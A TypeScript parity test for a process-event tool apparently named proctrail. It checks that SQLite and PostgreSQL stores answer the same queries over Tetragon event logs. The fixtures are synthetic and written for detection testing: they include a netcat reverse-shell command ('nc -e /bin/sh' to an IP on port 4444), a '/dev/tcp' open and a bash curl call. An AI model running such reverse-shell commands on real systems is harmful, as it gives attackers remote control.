/**
 * The same imports into a SQLite file (--db) and a real PostgreSQL (--store) give the same
 * answers: the import's summary, search, every process's tree, export, and the store's
 * counts, stats, event pages and detections. The inputs are the whole Tetragon corpus and a
 * file of edge cases of our own (duplicates within a batch, exec without fork, a fork replaced
 * by its exec, an exit without exec_id, a reused exec_id, an event without a time, events on
 * two days).
 */
import assert from 'node:assert/strict';
import { readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { execIdFor, type ProcessNode } from '@proctrail/schema';
import { CORPUS_DIR, jsonOf, runCli, scratchDir } from '../testing/harness';
import { postgresTarget, sqliteTarget, type StoreTarget } from '../testing/store-targets';
import type { Store } from '../store/types';

const scratch = scratchDir();
after(() => scratch.remove());

const NODE = 'edge-node';
const id = (pid: number, ktime = pid) => execIdFor(NODE, BigInt(ktime) * 1000n, pid);
const at = (day: number, second: number) =>
  `2026-04-0${day}T23:59:${String(second).padStart(2, '0')}.000000000Z`;

/** Edge cases the corpus lacks, in Tetragon's JSON. */
function edgeCases(): string {
  const init = {
    exec_id: id(1),
    pid: 1,
    binary: '/sbin/init',
    flags: 'procFS',
    start_time: at(1, 0),
  };
  const bash = {
    exec_id: id(10),
    pid: 10,
    binary: '/bin/bash',
    arguments: '-c "curl x"',
    flags: 'execve clone',
    start_time: at(1, 1),
    parent_exec_id: init.exec_id,
  };
  // bash replaced by curl in the same pid: exec without fork.
  const curl = {
    ...bash,
    exec_id: id(10, 11),
    binary: '/usr/bin/curl',
    arguments: 'x',
    flags: 'execve',
    parent_exec_id: bash.exec_id,
  };
  // A fork of bash that opened a file before its exec, then the exec (flag clone) replaces it.
  const fork = {
    exec_id: id(12),
    pid: 12,
    binary: '/bin/bash',
    flags: 'clone',
    start_time: at(1, 2),
    parent_exec_id: bash.exec_id,
  };
  const forkExec = {
    ...fork,
    exec_id: id(12, 13),
    binary: '/usr/bin/nc',
    arguments: '-e /bin/sh 10.1.2.3 4444',
    flags: 'execve clone',
  };
  const line = (time: string | undefined, body: object) =>
    JSON.stringify({ ...body, node_name: NODE, ...(time ? { time } : {}) });
  const exec = line(at(1, 1), { process_exec: { process: bash, parent: init } });
  return [
    exec,
    exec, // the same line twice in one batch
    line(at(1, 2), {
      process_kprobe: {
        process: fork,
        parent: bash,
        function_name: 'security_file_open',
        args: [{ file_arg: { path: '/dev/tcp/x' } }],
      },
    }),
    line(at(1, 3), { process_exec: { process: curl, parent: bash } }),
    line(at(1, 4), { process_exec: { process: forkExec, parent: bash } }),
    line(at(2, 5), {
      process_kprobe: {
        process: forkExec,
        function_name: 'tcp_connect',
        args: [
          {
            sock_arg: {
              family: 'AF_INET',
              saddr: '10.0.0.9',
              sport: 5555,
              daddr: '10.1.2.3',
              dport: 4444,
            },
          },
        ],
      },
    }),
    // An exit without exec_id: attributed by pid and start time afterwards.
    line(at(2, 6), {
      process_exit: {
        process: { pid: 12, start_time: at(1, 2), binary: '/usr/bin/nc' },
        status: 1,
        time: at(2, 6),
      },
    }),
    // A second, different exec naming curl's exec_id: a collision.
    line(at(2, 7), { process_exec: { process: { ...curl, arguments: 'other' } } }),
    // No time at all.
    line(undefined, {
      process_exec: {
        process: {
          exec_id: id(20),
          pid: 20,
          binary: '/bin/true',
          flags: 'execve',
          parent_exec_id: init.exec_id,
        },
      },
    }),
    line(at(2, 8), { process_exit: { process: curl, status: 0, time: at(2, 8) } }),
  ].join('\n');
}

interface Side {
  target: StoreTarget;
  args: string[];
  imports: string[];
}

const sides: Side[] = [];

before(async () => {
  const edges = join(scratch.dir, 'edge-cases.jsonl');
  writeFileSync(edges, edgeCases());
  const inputs = [
    ...readdirSync(CORPUS_DIR)
      .filter((f) => /\.jsonl?$/.test(f))
      .sort()
      .map((f) => join(CORPUS_DIR, f)),
    edges,
  ];
  for (const target of [sqliteTarget(), await postgresTarget()]) {
    const side: Side = { target, args: await target.create('parity'), imports: [] };
    for (const input of inputs) {
      const run = await runCli([
        'import',
        ...side.args,
        '--source',
        input.split('/').pop()!,
        input,
      ]);
      assert.ok(run.code === 0 || run.code === 2, `${target.kind}: ${run.stderr}`);
      side.imports.push(run.stdout);
    }
    sides.push(side);
  }
});
after(async () => {
  for (const side of sides) await side.target.stop();
});

/** What `proctrail ARGS --store/--db` prints on each side. */
async function both(args: string[]): Promise<[string, string]> {
  const out: string[] = [];
  for (const side of sides) {
    const run = await runCli([...args, ...side.args]);
    assert.equal(run.code, 0, `${side.target.kind}: ${args.join(' ')}: ${run.stderr}`);
    out.push(run.stdout);
  }
  return out as [string, string];
}

async function withStores<T>(ask: (store: Store) => Promise<T>): Promise<[T, T]> {
  const out: T[] = [];
  for (const side of sides) {
    const store = await side.target.open(side.args);
    try {
      out.push(await ask(store));
    } finally {
      await store.close();
    }
  }
  return out as [T, T];
}

describe('SQLite and PostgreSQL give the same answers', () => {
  test('each import prints the same summary (events, duplicates, placeholders, detections)', () => {
    assert.deepEqual(sides[1]!.imports, sides[0]!.imports);
    const edgeImport = sides[1]!.imports.at(-1)!;
    assert.match(edgeImport, /already stored, not repeated: 1 events/);
    assert.match(edgeImport, /warning: 1 exec_ids were named by two different exec events/);
  });

  test('search finds the same processes in the same order, as JSON and as text', async () => {
    const [sqlite, postgres] = await both(['search', '--json', '--limit', '1000']);
    assert.ok(jsonOf<ProcessNode[]>({ code: 0, stdout: sqlite, stderr: '' }).length > 20);
    assert.deepEqual(JSON.parse(postgres), JSON.parse(sqlite));
    const [text1, text2] = await both(['search', '--limit', '1000']);
    assert.equal(text2, text1);
  });

  const filters = [
    ['--binary', 'BASH'],
    ['--binary', 'nc'],
    ['--args', '4444'],
    ['--ip', '10.1.2.3'],
    ['--port', '443'],
    ['--path', '/etc'],
    ['--path', 'tcp'],
    ['--node', NODE],
    ['--since', '2026-04-02T00:00:00Z'],
    ['--until', '2022-02-01T18:00:00Z'],
    ['--source', 'edge-cases.jsonl'],
    ['--namespace', 'tenant-jobs'],
    ['--pod', 'ELASTIC'],
    ['--workload', 'xwing'],
    ['--container', '1FB931D2F6E5'],
    [
      '--container',
      'containerd://1fb931d2f6e5e4cfdbaf30fdb8e2fdd81320bdb3047ded50120a4f82838209ce',
    ],
  ];
  for (const filter of filters) {
    test(`search and export ${filter.join(' ')} match`, async () => {
      const [sqlite, postgres] = await both(['search', '--json', ...filter]);
      assert.deepEqual(JSON.parse(postgres), JSON.parse(sqlite));
      const [exported1, exported2] = await both(['export', ...filter]);
      assert.equal(exported2, exported1);
    });
  }

  test('every process has the same tree, as JSON and as text', async () => {
    const [sqlite] = await both(['search', '--json', '--limit', '1000']);
    const processes = JSON.parse(sqlite) as ProcessNode[];
    for (const process of processes) {
      const source = ['--source', process.source!];
      const [json1, json2] = await both(['tree', process.exec_id!, '--json', ...source]);
      assert.deepEqual(JSON.parse(json2), JSON.parse(json1), process.exec_id);
      const [text1, text2] = await both(['tree', process.exec_id!, ...source]);
      assert.equal(text2, text1);
    }
  });

  test('the edge cases: replaced images, the attributed exit, the collision, the timeless exec', async () => {
    const [, postgres] = await both(['tree', id(10), '--json', '--source', 'edge-cases.jsonl']);
    const tree = JSON.parse(postgres) as { process: ProcessNode; children: ProcessNode[] };
    assert.equal(tree.process.exit?.time, at(1, 3), 'bash ended when curl replaced it');
    assert.equal(tree.process.exit?.status, undefined);
    const byPid = new Map(tree.children.map((c) => [`${c.pid}:${c.binary}`, c]));
    assert.equal(byPid.get('12:/bin/bash')?.exit?.time, at(1, 4), 'the fork ended at its exec');
    assert.equal(byPid.get('12:/usr/bin/nc')?.exit?.status, 1, 'the orphan exit was attributed');
  });

  test('export of everything is the same, oldest first with time-less events first', async () => {
    const [sqlite, postgres] = await both(['export']);
    assert.equal(postgres, sqlite);
    assert.ok(sqlite.split('\n')[0]!.includes('/bin/true'));
  });

  test('counts, stats, event pages, detections and the inventory are the same', async () => {
    const range = { since: '2022-01-01T00:00:00Z', until: '2026-04-01T23:59:59Z' };
    const [sqlite, postgres] = await withStores(async (store) => {
      const events = await store.eventsAfter(0, {}, 100_000);
      // Ids are each store's own (a duplicate costs SQLite an id, PostgreSQL none within a
      // batch): compared by their place in the store's order instead.
      const place = new Map(events.map((e, i) => [e.id, i]));
      const placed = <T extends { id: number }>(list: T[]) =>
        list.map(({ id, ...rest }) => ({ place: place.get(id), ...rest }));
      const detections = async (filters: Parameters<Store['detections']>[0]) =>
        (await store.detections(filters)).map(({ id, evidenceEventIds, ...rest }) => ({
          evidence: evidenceEventIds.map((e) => place.get(e)),
          ...rest,
        }));
      const last = await store.lastEvent();
      return {
        counts: await store.counts(),
        stats: await store.stats(10),
        statsInRange: await store.stats(5, range),
        last: { place: place.get(last!.id), time: last!.time },
        events: placed(events),
        connects: placed(
          await store.eventsAfter(0, { kinds: ['process_kprobe'], ip: '10.1.2.3' }, 10),
        ),
        detections: await detections({ limit: 1000 }),
        highDetections: await detections({ minSeverity: 'high', limit: 1000 }),
        inventory: await store.inventory!({ limit: 1000 }),
        sources: await store.sourcesOf(id(10)),
        chain: await store.processChain(
          (await store.sourceNamed('edge-cases.jsonl'))!,
          id(12, 13),
          10,
        ),
      };
    });
    assert.ok(sqlite.detections.length > 0 && sqlite.connects.length === 1);
    assert.deepEqual(postgres, sqlite);
  });
});
